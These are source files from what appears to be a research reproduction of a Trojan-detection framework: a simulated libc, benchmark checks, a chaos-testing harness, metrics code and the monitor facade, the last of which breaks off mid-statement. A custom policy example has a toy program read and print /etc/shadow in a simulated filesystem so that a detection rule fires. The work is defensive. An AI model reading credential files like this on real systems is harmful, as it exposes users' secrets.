    mov edx, sh_flag
    store [edi+1], edx
    store [edi+2], ecx
    store [edi+3], 0
    mov ebx, sh_path
    mov ecx, edi
    mov edx, 0
    call execve
    mov ebx, 127            ; exec failed
    call exit
system_parent:
    pop edi
    pop edx
    pop ecx
    pop ebx
    ret

; ===================== socket helpers =====================

socket:                     ; socket() -> eax = fd (AF_INET stream)
    push ebx
    push ecx
    push edi
    mov edi, sc_args
    store [edi], 2          ; AF_INET
    store [edi+1], 1        ; SOCK_STREAM
    store [edi+2], 0
    mov ebx, 1              ; SYS_SOCKET
    mov ecx, edi
    mov eax, 102
    int 0x80
    pop edi
    pop ecx
    pop ebx
    ret

connect_addr:               ; connect_addr(ebx=fd, ecx=ip, edx=port) -> eax
    push ebx
    push ecx
    push esi
    push edi
    mov edi, sc_sockaddr
    store [edi], 2          ; AF_INET
    store [edi+1], edx      ; port
    store [edi+2], ecx      ; address
    mov esi, sc_args
    store [esi], ebx
    store [esi+1], edi
    store [esi+2], 3
    mov ebx, 3              ; SYS_CONNECT
    mov ecx, esi
    mov eax, 102
    int 0x80
    pop edi
    pop esi
    pop ecx
    pop ebx
    ret

bind_addr:                  ; bind_addr(ebx=fd, ecx=ip, edx=port) -> eax
    push ebx
    push ecx
    push esi
    push edi
    mov edi, sc_sockaddr
    store [edi], 2
    store [edi+1], edx
    store [edi+2], ecx
    mov esi, sc_args
    store [esi], ebx
    store [esi+1], edi
    store [esi+2], 3
    mov ebx, 2              ; SYS_BIND
    mov ecx, esi
    mov eax, 102
    int 0x80
    pop edi
    pop esi
    pop ecx
    pop ebx
    ret

listen:                     ; listen(ebx=fd) -> eax
    push ebx
    push ecx
    push esi
    mov esi, sc_args
    store [esi], ebx
    store [esi+1], 8
    mov ebx, 4              ; SYS_LISTEN
    mov ecx, esi
    mov eax, 102
    int 0x80
    pop esi
    pop ecx
    pop ebx
    ret

accept:                     ; accept(ebx=fd) -> eax = connected fd
    push ebx
    push ecx
    push esi
    mov esi, sc_args
    store [esi], ebx
    store [esi+1], 0
    store [esi+2], 0
    mov ebx, 5              ; SYS_ACCEPT
    mov ecx, esi
    mov eax, 102
    int 0x80
    pop esi
    pop ecx
    pop ebx
    ret

; ===================== data =====================
.data
sh_path:     .asciz "/bin/sh"
sh_flag:     .asciz "-c"
sys_argv:    .space 4
sc_args:     .space 4
sc_sockaddr: .space 3
itoa_tmp:    .space 16
num_buf:     .space 16
heap_ptr:    .word 0x400000
rand_seed:   .word 20060126
"""


@lru_cache(maxsize=1)
def libc_image() -> Image:
    """The assembled libc shared object (cached; images are immutable)."""
    return assemble(LIBC_PATH, LIBC_SOURCE)
