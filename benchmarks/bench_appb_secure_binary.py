"""Appendix B — the Secure Binary static checker, applied to the
evaluation corpus: every Trojan/exploit image violates the rules, while
the user-driven benign programs pass.
"""

from benchmarks.harness import once, render_table, write_result
from repro.analysis.secure_binary import check_secure_binary
from repro.programs.exploits.registry import table8_workloads
from repro.programs.micro.execflow import table4_workloads


def run_checks():
    rows = []
    # micro: the user-input execve is Secure, the hardcoded one is not
    micro = {w.name: w for w in table4_workloads()}
    for name in ("User input", "Hardcode"):
        report = check_secure_binary(micro[name].image())
        rows.append((name, "micro", "yes" if report.is_secure else "NO",
                     len(report.violations)))
    for workload in table8_workloads():
        report = check_secure_binary(workload.image())
        rows.append((workload.name, "exploit",
                     "yes" if report.is_secure else "NO",
                     len(report.violations)))
    return rows


def bench_appb_secure_binary(benchmark):
    rows = once(benchmark, run_checks)
    text = render_table(
        "Appendix B: Secure Binary static check",
        ("binary", "suite", "secure?", "violations"),
        rows,
    )
    write_result("appb_secure_binary.txt", text)
    print("\n" + text)
    by_name = {r[0]: r for r in rows}
    assert by_name["User input"][2] == "yes"
    assert by_name["Hardcode"][2] == "NO"
    # every real exploit hardcodes at least one resource identifier
    exploit_rows = [r for r in rows if r[1] == "exploit"]
    assert all(r[2] == "NO" for r in exploit_rows)
