"""Daemon-level chaos: point the fault machinery at a live serve daemon.

The guest-level chaos harness (:mod:`repro.faultinject.harness`) proves
detection survives a flaky *machine*; this module proves the always-on
service survives a flaky *pool*.  Two fault planes compose:

* **kernel-boundary faults** ride inside each submission's
  :class:`~repro.core.options.RunOptions` (profile + seed) exactly as in
  batch chaos — the daemon's workers build the same seeded injector;
* **worker kills** come from the :class:`ChaosMonkey`, which hard-kills
  pool workers (preferring busy ones) on a seed-derived schedule via
  ``Supervisor.kill_worker`` — the same lever an OOM kill or segfault
  pulls, exercised through the supervisor's organic crash-containment
  path.

:func:`run_serve_chaos` drives both against a running
:class:`~repro.serve.server.ServeDaemon` and checks the service-level
contract the docs promise: *every submission is answered with a terminal
event* (report or synthesized error — never a hang, never a dropped
stream), and submissions that carried no fault profile produce reports
bit-identical to a batch ``Session`` run of the same work.

Wall-clock interleaving of kills against execution is inherently racy,
so the monkey's *schedule* is deterministic (seeded) but the assertable
properties are liveness and answer-completeness, not which specific job
absorbed which kill — mirroring the semantic-profile stance of the
batch harness.
"""

from __future__ import annotations

import asyncio
import json
import random
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Sequence

#: Kill schedules stay reproducible from one recorded seed, like
#: guest-level fault schedules.
DEFAULT_MONKEY_SEED = 1337


@dataclass(frozen=True)
class DaemonChaosProfile:
    """How aggressively the monkey goes after the worker pool."""

    #: Mean seconds between kill attempts (jittered ±50% by the seed).
    kill_interval: float = 0.25
    #: Total kills before the monkey retires.
    kills: int = 3
    #: Prefer workers that are mid-job (maximizes containment coverage);
    #: falls back to any live worker when nobody is busy.
    prefer_busy: bool = True


class ChaosMonkey:
    """Kill pool workers on a deterministic, seed-derived schedule."""

    def __init__(
        self,
        supervisor,
        profile: DaemonChaosProfile = DaemonChaosProfile(),
        seed: int = DEFAULT_MONKEY_SEED,
    ) -> None:
        self.supervisor = supervisor
        self.profile = profile
        self.rng = random.Random(seed)
        self.kills: List[int] = []

    def pick_target(self) -> Optional[int]:
        busy = self.supervisor.busy_worker_ids()
        if busy and self.profile.prefer_busy:
            return busy[self.rng.randrange(len(busy))]
        stats = self.supervisor.stats()["workers"]
        live = [wid for wid, w in stats.items() if w["alive"]]
        if not live:
            return None
        return live[self.rng.randrange(len(live))]

    async def run(self, stop: "asyncio.Event") -> int:
        """Kill until the budget is spent or ``stop`` is set; return the
        number of kills landed."""
        while len(self.kills) < self.profile.kills and not stop.is_set():
            delay = self.profile.kill_interval * (
                0.5 + self.rng.random()
            )
            try:
                await asyncio.wait_for(stop.wait(), timeout=delay)
                break
            except asyncio.TimeoutError:
                pass
            target = self.pick_target()
            if target is None:
                continue
            if self.supervisor.kill_worker(target):
                self.kills.append(target)
        return len(self.kills)


@dataclass
class ServeChaosOutcome:
    """One submission's fate under daemon chaos."""

    name: str
    faulted: bool
    events: List[Dict[str, object]]

    @property
    def terminal(self) -> Dict[str, object]:
        return self.events[-1] if self.events else {}

    @property
    def answered(self) -> bool:
        kind = self.terminal.get("kind")
        return kind in ("report", "error", "rejected")

    @property
    def retried(self) -> bool:
        return any(e.get("kind") == "retry" for e in self.events)


@dataclass
class ServeChaosResult:
    """The service-level verdict of one :func:`run_serve_chaos` round."""

    outcomes: List[ServeChaosOutcome] = field(default_factory=list)
    kills: List[int] = field(default_factory=list)
    #: Names of non-faulted submissions whose served report differed
    #: from the batch baseline (must be empty).
    mismatches: List[str] = field(default_factory=list)

    @property
    def all_answered(self) -> bool:
        return all(o.answered for o in self.outcomes)

    @property
    def lost(self) -> List[str]:
        return [o.name for o in self.outcomes if not o.answered]

    @property
    def retried(self) -> List[str]:
        return [o.name for o in self.outcomes if o.retried]

    def summary(self) -> Dict[str, object]:
        return {
            "submissions": len(self.outcomes),
            "answered": sum(o.answered for o in self.outcomes),
            "lost": self.lost,
            "kills": len(self.kills),
            "retried": self.retried,
            "mismatches": self.mismatches,
        }


def _report_key(report: Dict[str, object]) -> str:
    return json.dumps(report, sort_keys=True, default=str)


async def run_serve_chaos(
    daemon,
    submissions: Sequence[object],
    profile: DaemonChaosProfile = DaemonChaosProfile(),
    seed: int = DEFAULT_MONKEY_SEED,
    baseline: Optional[Dict[str, Dict[str, object]]] = None,
) -> ServeChaosResult:
    """Submit everything concurrently while the monkey kills workers.

    ``daemon`` is a started :class:`~repro.serve.server.ServeDaemon`
    with a unix socket.  ``baseline`` optionally maps submission names
    to the batch ``RunReport.to_dict()`` expected for them; non-faulted
    submissions that come back with a different report are recorded as
    mismatches (the bit-identity check).
    """
    from repro.serve.client import submit_async

    monkey = ChaosMonkey(daemon.supervisor, profile, seed)
    stop = asyncio.Event()
    monkey_task = asyncio.create_task(monkey.run(stop))

    async def one(submission) -> ServeChaosOutcome:
        try:
            events = await submit_async(daemon.unix_path, submission)
        except Exception as exc:
            events = [{"kind": "transport-error", "error": str(exc)}]
        return ServeChaosOutcome(
            name=submission.name or repr(submission.workload),
            faulted=submission.options.fault_profile is not None,
            events=events,
        )

    outcomes = list(await asyncio.gather(
        *(one(submission) for submission in submissions)
    ))
    stop.set()
    await monkey_task

    result = ServeChaosResult(outcomes=outcomes, kills=list(monkey.kills))
    if baseline:
        for outcome in outcomes:
            if outcome.faulted or outcome.name not in baseline:
                continue
            terminal = outcome.terminal
            if terminal.get("kind") != "report":
                continue
            served = _report_key(terminal["report"])
            expected = _report_key(baseline[outcome.name])
            if served != expected:
                result.mismatches.append(outcome.name)
    return result
