#!/usr/bin/env python
"""Extending the policy: write your own Secpert rule.

Secpert's policy is a set of productions over the fact templates in
`repro.secpert.facts` — the same extension point the paper's §4 rules
use.  This example adds a site-specific rule:

    "warn (Medium) whenever any program reads /etc/shadow,
     no matter where the file name came from"

and shows it firing alongside the built-in rules.

Run:  python examples/custom_policy_rule.py
"""

from repro import HTH
from repro.expert import Pattern, Rule, V
from repro.isa import assemble
from repro.secpert.warnings import SecurityWarning, Severity

SHADOW_READER = r"""
main:
    mov ebp, esp
    load eax, [ebp+2]
    load ebx, [eax+1]      ; argv[1] - the *user* chose this file
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 64
    call read
    mov edx, eax
    mov ebx, 1
    mov ecx, buf
    call write
    mov eax, 0
    ret
.data
buf: .space 64
"""


def add_shadow_rule(hth: HTH) -> None:
    """Register a custom production with the running Secpert engine."""

    def warn_shadow_read(ctx):
        ctx.context["warn"].add(
            SecurityWarning(
                severity=Severity.MEDIUM,
                rule="site_shadow_read",
                headline="Found Read call on /etc/shadow",
                details=(
                    "site policy: the shadow file must never be read by "
                    "monitored programs",
                ),
                pid=ctx["pid"],
                time=ctx["time"],
            )
        )

    hth.secpert.engine.add_rule(
        Rule(
            name="site_shadow_read",
            doc="Site-specific: any read of /etc/shadow",
            lhs=[
                Pattern(
                    "data_transfer",
                    direction="read",
                    resource_name="/etc/shadow",
                    pid=V("pid"),
                    time=V("time"),
                )
            ],
            action=warn_shadow_read,
        )
    )


def main() -> None:
    hth = HTH()
    hth.fs.write_text("/etc/shadow", "root:$6$hash:19000::::::\n")
    add_shadow_rule(hth)

    report = hth.run(
        assemble("/usr/bin/viewer", SHADOW_READER),
        argv=["/usr/bin/viewer", "/etc/shadow"],
    )
    print(f"verdict: {report.verdict.value.upper()}")
    print()
    for warning in report.warnings:
        print(warning.render())
        print()
    # Built-in rules see a user-chosen file read and stay quiet; the
    # custom rule fires regardless of provenance.
    assert report.warnings_by_rule("site_shadow_read")


if __name__ == "__main__":
    main()
