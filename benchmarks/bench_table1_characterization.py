"""Table 1 — execution patterns exhibited by malicious code.

Regenerates the characterization matrix of nine real-world exploits
(section 2.1/2.2) from the structured profiles.
"""

from benchmarks.harness import once, render_table, write_result
from repro.analysis.characterization import TABLE1_PROFILES, table1_rows


def bench_table1_characterization(benchmark):
    rows = once(benchmark, table1_rows)
    text = render_table(
        "Table 1: Execution patterns exhibited by malicious code",
        ("Exploit Name", "No user intervention", "Remotely directed",
         "Hard-coded Resources", "Degrading performance"),
        rows,
    )
    write_result("table1_characterization.txt", text)
    print("\n" + text)
    assert len(rows) == 9
    # the defining Trojan property holds for every profiled exploit
    assert all(p.no_user_intervention for p in TABLE1_PROFILES)
