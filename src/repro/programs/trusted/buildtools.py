"""Build-tool analogues: make and g++ (paper sections 8.2.3 / 8.2.4).

These are the paper's acknowledged *acceptable false positives*: make
executes compilers found via the PATH environment variable (USER INPUT)
joined with hardcoded names, and g++ executes its hardcoded helper
binaries (cc1plus, collect2) — each drawing a Low warning from the
execution-flow rule.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.hth import HTH

from typing import List

from repro.core.hth import stub_binary
from repro.core.report import Verdict
from repro.programs.base import Workload

MAKE_SOURCE = r"""
; make: read the makefile (its *name* is hardcoded in make itself), then
; search PATH for g++ and execute it in a child process
main:
    mov ebp, esp
    mov ebx, mf
    mov ecx, 0
    call open
    cmp eax, 0
    jl find_gxx
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 96
    call read
    mov ebx, esi
    call close
find_gxx:
    load ebx, [ebp+3]       ; envp
    mov ecx, path_name
    call env_lookup
    cmp eax, 0
    jz done
    ; cmd = $PATH-dir + "/g++"  (PATH value is USER INPUT; the suffix is
    ; hardcoded in make - the mixed origin the paper reports)
    mov ebx, cmd
    mov ecx, eax
    call strcpy
    mov ebx, cmd
    mov ecx, gxx_suffix
    call strcat
    call fork
    cmp eax, 0
    jnz done
    mov ebx, cmd
    mov ecx, 0
    mov edx, 0
    call execve
    mov ebx, 1
    call exit
done:
    mov eax, 0
    ret
.data
mf:         .asciz "makefile"
path_name:  .asciz "PATH"
gxx_suffix: .asciz "/g++"
cmd:        .space 80
buf:        .space 96
"""

GXX_SOURCE = r"""
; g++ test.cpp: read the user's source file, run the hardcoded helper
; executables cc1plus and collect2, write the (hardcoded-named) a.out
main:
    mov ebp, esp
    load eax, [ebp+2]
    load ebx, [eax+1]
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 96
    call read
    mov edi, eax            ; source length
    mov ebx, esi
    call close
    ; stage 1: cc1plus
    call fork
    cmp eax, 0
    jnz after_cc1
    mov ebx, cc1
    mov ecx, 0
    mov edx, 0
    call execve
    mov ebx, 1
    call exit
after_cc1:
    ; stage 2: collect2
    call fork
    cmp eax, 0
    jnz after_col
    mov ebx, col
    mov ecx, 0
    mov edx, 0
    call execve
    mov ebx, 1
    call exit
after_col:
    ; emit a.out from the compiled source
    mov ebx, aout
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, edi
    call write
    mov ebx, esi
    call close
    mov eax, 0
    ret
.data
cc1:  .asciz "/usr/libexec/cc1plus"
col:  .asciz "/usr/libexec/collect2"
aout: .asciz "a.out"
buf:  .space 96
"""


def _make_setup(hth: HTH) -> None:
    hth.fs.write_text("makefile", "all:\n\tg++ test.cpp DataFlow.C\n")
    hth.register_binary(stub_binary("/usr/bin/g++"))


def _gxx_setup(hth: HTH) -> None:
    hth.fs.write_text("test.cpp", "int main() { return 0; }\n")
    hth.register_binary(stub_binary("/usr/libexec/cc1plus"))
    hth.register_binary(stub_binary("/usr/libexec/collect2"))


def buildtools_workloads() -> List[Workload]:
    return [
        Workload(
            name="make",
            program_path="/usr/bin/make",
            source=MAKE_SOURCE,
            description="make finding g++ through PATH (acceptable Low FP)",
            setup=_make_setup,
            env={"PATH": "/usr/bin"},
            expected_verdict=Verdict.LOW,
            expected_rules=("check_execve",),
        ),
        Workload(
            name="g++",
            program_path="/usr/bin/g++",
            source=GXX_SOURCE,
            description="g++ running cc1plus/collect2 (acceptable Low FP)",
            setup=_gxx_setup,
            argv=["/usr/bin/g++", "test.cpp"],
            expected_verdict=Verdict.LOW,
            expected_rules=("check_execve",),
        ),
    ]
