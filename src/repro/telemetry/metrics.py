"""Metrics: counters, gauges, and histograms with labels.

The registry is the always-on half of the telemetry layer (the paper's
evaluation is built on exactly these numbers: Table 1's instruction /
syscall / basic-block counts, §8's per-feature event volumes, §9's
overhead study).  Instruments are get-or-create and the returned handles
are stable, so hot paths resolve an instrument once and call ``inc()`` /
``observe()`` on the cached handle.

When telemetry is disabled the stack is wired to :class:`NullSink`, whose
instruments are shared no-op singletons — the disabled path costs one
attribute load and a no-op call at worst, and most call sites skip even
that by caching ``None``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Tuple

LabelKey = Tuple[Tuple[str, str], ...]


def _label_key(labels: Dict[str, str]) -> LabelKey:
    if not labels:
        return ()
    return tuple(sorted((k, str(v)) for k, v in labels.items()))


@dataclass
class Counter:
    """Monotonically increasing count."""

    name: str
    labels: LabelKey = ()
    value: float = 0.0

    def inc(self, amount: float = 1.0) -> None:
        if amount < 0:
            raise ValueError(f"counter {self.name} cannot decrease")
        self.value += amount


@dataclass
class Gauge:
    """A value that can go up and down (sampled state)."""

    name: str
    labels: LabelKey = ()
    value: float = 0.0

    def set(self, value: float) -> None:
        self.value = value

    def inc(self, amount: float = 1.0) -> None:
        self.value += amount

    def dec(self, amount: float = 1.0) -> None:
        self.value -= amount


@dataclass
class Histogram:
    """Streaming summary of observed values (count/sum/min/max + buckets).

    Bucket bounds default to a latency-friendly exponential ladder in
    seconds; pass explicit ``buckets`` for count-like distributions.
    """

    name: str
    labels: LabelKey = ()
    buckets: Tuple[float, ...] = (
        1e-6, 1e-5, 1e-4, 1e-3, 1e-2, 1e-1, 1.0, 10.0
    )
    count: int = 0
    total: float = 0.0
    min: Optional[float] = None
    max: Optional[float] = None
    bucket_counts: List[int] = field(default_factory=list)

    def __post_init__(self) -> None:
        if not self.bucket_counts:
            # one overflow bucket past the last bound
            self.bucket_counts = [0] * (len(self.buckets) + 1)

    def observe(self, value: float) -> None:
        self.count += 1
        self.total += value
        if self.min is None or value < self.min:
            self.min = value
        if self.max is None or value > self.max:
            self.max = value
        for i, bound in enumerate(self.buckets):
            if value <= bound:
                self.bucket_counts[i] += 1
                return
        self.bucket_counts[-1] += 1

    @property
    def mean(self) -> float:
        return self.total / self.count if self.count else 0.0


class MetricsRegistry:
    """Get-or-create instrument store.

    ``counter("kernel_syscalls_total", name="SYS_open")`` returns the same
    :class:`Counter` object on every call with the same name+labels.
    """

    enabled = True

    def __init__(self) -> None:
        self._metrics: Dict[Tuple[str, str, LabelKey], object] = {}

    def _get(self, kind: str, name: str, labels: Dict[str, str], factory):
        key = (kind, name, _label_key(labels))
        metric = self._metrics.get(key)
        if metric is None:
            metric = factory(name=name, labels=key[2])
            self._metrics[key] = metric
        return metric

    def counter(self, name: str, /, **labels: str) -> Counter:
        return self._get("counter", name, labels, Counter)

    def gauge(self, name: str, /, **labels: str) -> Gauge:
        return self._get("gauge", name, labels, Gauge)

    def histogram(self, name: str, /, **labels: str) -> Histogram:
        return self._get("histogram", name, labels, Histogram)

    # -- reading -----------------------------------------------------------
    def __iter__(self) -> Iterable[object]:
        return iter(self._metrics.values())

    def __len__(self) -> int:
        return len(self._metrics)

    def value(self, name: str, /, **labels: str) -> Optional[float]:
        """Current value of a counter/gauge, or None if never touched."""
        key = _label_key(labels)
        for (kind, mname, mlabels), metric in self._metrics.items():
            if mname == name and mlabels == key and kind in (
                "counter", "gauge"
            ):
                return metric.value  # type: ignore[union-attr]
        return None

    def total(self, name: str) -> float:
        """Sum of a counter/gauge across all label sets."""
        acc = 0.0
        for (kind, mname, _), metric in self._metrics.items():
            if mname == name and kind in ("counter", "gauge"):
                acc += metric.value  # type: ignore[union-attr]
        return acc

    def samples(self) -> List[Dict[str, object]]:
        """Flat, JSON-ready sample list (the snapshot wire format)."""
        out: List[Dict[str, object]] = []
        for (kind, name, labels), metric in sorted(
            self._metrics.items(), key=lambda kv: kv[0]
        ):
            sample: Dict[str, object] = {
                "name": name,
                "kind": kind,
                "labels": dict(labels),
            }
            if kind == "histogram":
                sample.update(
                    count=metric.count,
                    sum=metric.total,
                    min=metric.min,
                    max=metric.max,
                    mean=metric.mean,
                )
            else:
                sample["value"] = metric.value
            out.append(sample)
        return out

    def render(self) -> str:
        """Human-readable dump (``repro ... --metrics``)."""
        return render_samples(self.samples())


def render_samples(samples: Iterable[Dict[str, object]]) -> str:
    """Human-readable dump of a sample list (live registry or a merged
    fleet snapshot — both use the same wire shape)."""
    lines = []
    for sample in samples:
        labels = sample["labels"]
        label_txt = (
            "{" + ",".join(f"{k}={v}" for k, v in sorted(labels.items()))
            + "}" if labels else ""
        )
        if sample["kind"] == "histogram":
            lines.append(
                f"{sample['name']}{label_txt} "
                f"count={sample['count']} sum={sample['sum']:.6f} "
                f"mean={sample['mean']:.6f}"
            )
        else:
            value = sample["value"]
            shown = int(value) if float(value).is_integer() else value
            lines.append(f"{sample['name']}{label_txt} {shown}")
    return "\n".join(lines)


def merge_sample_lists(
    sample_lists: Iterable[List[Dict[str, object]]],
) -> List[Dict[str, object]]:
    """Merge several ``MetricsRegistry.samples()`` lists into one.

    The fleet coordinator folds per-run registry snapshots from many
    worker processes into a single fleet-level registry view:

    * **counters** sum (total work across the fleet);
    * **gauges** sum — a fleet gauge reads as "across all machines"
      (e.g. total live shadow pages), matching how per-process gauges
      already aggregate in :meth:`MetricsRegistry.total`;
    * **histograms** merge streams: counts and sums add, min/max widen,
      the mean is recomputed from the merged count/sum.

    Output order is deterministic: sorted by (kind, name, labels), the
    same order :meth:`MetricsRegistry.samples` emits.
    """
    merged: Dict[Tuple[str, str, LabelKey], Dict[str, object]] = {}
    for samples in sample_lists:
        for sample in samples:
            key = (
                str(sample["kind"]),
                str(sample["name"]),
                _label_key(dict(sample["labels"])),
            )
            into = merged.get(key)
            if into is None:
                merged[key] = dict(sample)
                continue
            if key[0] == "histogram":
                into["count"] = into["count"] + sample["count"]
                into["sum"] = into["sum"] + sample["sum"]
                for bound, pick in (("min", min), ("max", max)):
                    ours, theirs = into[bound], sample[bound]
                    if ours is None:
                        into[bound] = theirs
                    elif theirs is not None:
                        into[bound] = pick(ours, theirs)
                into["mean"] = (
                    into["sum"] / into["count"] if into["count"] else 0.0
                )
            else:
                into["value"] = into["value"] + sample["value"]
    return [merged[key] for key in sorted(merged)]


class _NullInstrument:
    """Shared do-nothing counter/gauge/histogram."""

    __slots__ = ()
    name = "null"
    labels: LabelKey = ()
    value = 0.0
    count = 0
    total = 0.0
    min = None
    max = None
    mean = 0.0

    def inc(self, amount: float = 1.0) -> None:
        pass

    def dec(self, amount: float = 1.0) -> None:
        pass

    def set(self, value: float) -> None:
        pass

    def observe(self, value: float) -> None:
        pass


_NULL_INSTRUMENT = _NullInstrument()


class NullSink:
    """Zero-overhead registry stand-in used when telemetry is disabled.

    Every lookup returns one shared inert instrument; nothing is stored,
    nothing is counted, ``samples()`` is always empty.
    """

    enabled = False

    def counter(self, name: str, /, **labels: str) -> _NullInstrument:
        return _NULL_INSTRUMENT

    def gauge(self, name: str, /, **labels: str) -> _NullInstrument:
        return _NULL_INSTRUMENT

    def histogram(self, name: str, /, **labels: str) -> _NullInstrument:
        return _NULL_INSTRUMENT

    def value(self, name: str, /, **labels: str) -> Optional[float]:
        return None

    def total(self, name: str) -> float:
        return 0.0

    def samples(self) -> List[Dict[str, object]]:
        return []

    def render(self) -> str:
        return "(telemetry disabled)"

    def __iter__(self):
        return iter(())

    def __len__(self) -> int:
        return 0
