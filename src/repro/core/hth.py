"""The HTH framework facade (paper Figure 1).

Wires the full stack — simulated kernel, Harrier monitor, Secpert expert
system — and exposes a one-call interface::

    hth = HTH()
    hth.fs.write_text("/etc/secret", "...")
    report = hth.run(program_image, argv=["prog"])
    assert report.verdict is Verdict.HIGH

One HTH instance models one monitored machine; create a fresh instance
per experiment run.
"""

from __future__ import annotations

from dataclasses import replace
from functools import lru_cache
from typing import Dict, Optional, Sequence, TYPE_CHECKING, Union

from repro.core.options import RunOptions
from repro.core.report import RunReport
from repro.harrier.analyzer import DecisionPolicy, always_continue
from repro.harrier.config import HarrierConfig
from repro.harrier.monitor import Harrier
from repro.isa.assembler import assemble
from repro.isa.image import Image
from repro.kernel.console import Console
from repro.kernel.filesystem import FileSystem
from repro.kernel.kernel import Kernel
from repro.kernel.network import Network
from repro.programs.libc import libc_image
from repro.secpert.policy import PolicyConfig
from repro.secpert.secpert import Secpert
from repro.telemetry import Telemetry

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.engine import EngineCache
    from repro.faultinject.injector import FaultInjector

#: Paths commonly exec'd by the paper's workloads; HTH pre-registers tiny
#: stub binaries for them so execve targets exist (detection happens at
#: the execve *event*, before the new image runs).
STANDARD_BINARIES = (
    "/bin/sh",
    "/bin/ls",
    "/bin/cat",
    "/bin/date",
    "/bin/su",
    "/bin/ping",
    "/usr/bin/crontab",
    "/usr/sbin/sendmail",
)

_STUB_SOURCE = """
main:
    mov eax, 0
    ret
"""


@lru_cache(maxsize=64)
def _stub_template(path: str) -> Image:
    return assemble(path, _STUB_SOURCE)


def stub_binary(path: str) -> Image:
    """A minimal executable that immediately exits successfully.

    Assembly is cached per path, but every call returns an image with its
    own mutable containers (``data``/``symbols`` dicts): the cache must
    never let one HTH machine's loader state leak into another.  The text
    tuple is shared — instructions are frozen dataclasses, and the loader
    relocates into a copy, never in place.
    """
    template = _stub_template(path)
    return replace(
        template,
        data=dict(template.data),
        symbols=dict(template.symbols),
    )


class HTH:
    def __init__(
        self,
        policy: Optional[PolicyConfig] = None,
        harrier_config: Optional[HarrierConfig] = None,
        decision: DecisionPolicy = always_continue,
        libraries: Optional[Sequence[Image]] = None,
        monitored: bool = True,
        install_stubs: bool = True,
        analyzer=None,
        fault_injector: Optional["FaultInjector"] = None,
        telemetry: Optional[Telemetry] = None,
        options: Optional[RunOptions] = None,
        engine: Optional["EngineCache"] = None,
    ) -> None:
        # ``options`` is the one configuration object (see RunOptions).
        options = options if options is not None else RunOptions()
        self.options = options
        self.policy = policy or options.policy or PolicyConfig()
        if telemetry is None:
            telemetry = options.make_telemetry()
        self.telemetry = telemetry if telemetry is not None else (
            Telemetry.disabled()
        )
        #: The analysis side: Secpert by default, or any EventAnalyzer
        #: exposing a ``warnings`` list (e.g. the cross-session or
        #: multi-program wrappers).
        self.analyzer = analyzer if analyzer is not None else Secpert(
            self.policy, rete=options.rete
        )
        self.secpert = self.analyzer if isinstance(
            self.analyzer, Secpert
        ) else getattr(self.analyzer, "secpert", None)
        config = harrier_config or options.harrier_config or HarrierConfig()
        if not options.taint_fastpath and config.taint_fastpath:
            # The escape hatch only ever *disables* the fast path; an
            # explicit HarrierConfig(taint_fastpath=False) always wins.
            config = replace(config, taint_fastpath=False)
        if not options.provenance and config.provenance:
            # Same escape-hatch shape for the evidence recorder.
            config = replace(config, provenance=False)
        self.harrier = Harrier(
            analyzer=self.analyzer,
            config=config,
            decision=decision,
            interner=engine.interner if engine is not None else None,
        )
        libs = list(libraries) if libraries is not None else [libc_image()]
        hooks = self.harrier if monitored else None
        if fault_injector is None:
            fault_injector = options.make_fault_injector()
        self.fault_injector = fault_injector
        self.kernel = Kernel(
            hooks=hooks,
            libraries=libs,
            fault_injector=fault_injector,
            telemetry=self.telemetry,
            use_block_cache=options.block_cache,
            block_cache_store=(
                engine.block_caches if engine is not None else None
            ),
        )
        self.harrier.bind(self.kernel)
        self.harrier.attach_telemetry(self.telemetry)
        attach = getattr(self.analyzer, "attach_telemetry", None)
        if attach is not None:
            attach(self.telemetry)
        if self.harrier.provenance is not None:
            attach_prov = getattr(self.analyzer, "attach_provenance", None)
            if attach_prov is not None:
                attach_prov(self.harrier.provenance)
        if install_stubs:
            for path in STANDARD_BINARIES:
                self.kernel.register_binary(stub_binary(path))

    # -- convenient access to the simulated machine -----------------------
    @property
    def fs(self) -> FileSystem:
        return self.kernel.fs

    @property
    def network(self) -> Network:
        return self.kernel.network

    @property
    def console(self) -> Console:
        return self.kernel.console

    def register_binary(self, image: Image, path: Optional[str] = None) -> str:
        return self.kernel.register_binary(image, path)

    def provide_input(self, data: Union[str, bytes]) -> None:
        self.kernel.console.provide_input(data)

    # -- running ----------------------------------------------------------
    def run(
        self,
        program: Union[str, Image],
        argv: Optional[Sequence[str]] = None,
        env: Optional[Dict[str, str]] = None,
        stdin: Optional[Union[str, bytes]] = None,
        max_ticks: Optional[int] = None,
        wall_timeout: Optional[float] = None,
    ) -> RunReport:
        """Spawn ``program``, run to completion, and report.

        ``max_ticks``/``wall_timeout`` default to the budgets carried by
        this machine's :class:`RunOptions`.
        """
        if max_ticks is None:
            max_ticks = self.options.max_ticks
        if wall_timeout is None:
            wall_timeout = self.options.wall_timeout
        # Never extend name-based trust to the monitored program itself:
        # a Trojan installed *as* a trusted shared object (say
        # ``/lib/libc.so``) would otherwise have its own hardcoded
        # strings filtered as "trusted libc data" and sail through the
        # exec-flow rules.  Found by the adversarial rename-paths sweep
        # (docs/adversarial.md); the program is known here, before
        # spawn, so the policy is narrowed per run.
        target = program.name if isinstance(program, Image) else str(program)
        secpert = self.secpert
        if secpert is not None and target in secpert.policy.trusted_binaries:
            secpert.distrust(target)
        if stdin is not None:
            self.provide_input(stdin)
        self.kernel.write_hosts_file()
        proc = self.kernel.spawn(program, argv=argv, env=env)
        result = self.kernel.run(
            max_ticks=max_ticks, wall_timeout=wall_timeout
        )
        if self.telemetry.is_enabled:
            self.harrier.sample_state_gauges()
        injector = self.kernel.fault_injector
        return RunReport(
            program=proc.command,
            argv=list(proc.argv),
            result=result,
            warnings=list(getattr(self.analyzer, "warnings", [])),
            events=list(self.harrier.events),
            console_output=self.kernel.console.output_text(),
            exit_code=proc.exit_code,
            killed_by_monitor=proc.killed_by_monitor,
            faults=self.kernel.faults(),
            fault_seed=injector.seed if injector is not None else None,
            injected_faults=(
